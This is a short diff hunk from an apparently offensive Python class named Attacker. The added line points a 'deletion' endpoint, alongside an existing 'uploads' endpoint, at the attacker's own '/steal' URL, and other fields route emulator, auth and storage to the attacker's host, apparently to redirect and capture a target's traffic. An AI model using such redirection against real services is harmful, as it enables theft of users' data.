@@ -54,6 +54,7 @@ class Attacker:
         query = {
             "uid": uid,
             "uploads": f"{self.url}/steal",
+            "deletion": f"{self.url}/steal",
             "emulator": self.host,
             "auth": self.host,
             "storage": self.url,
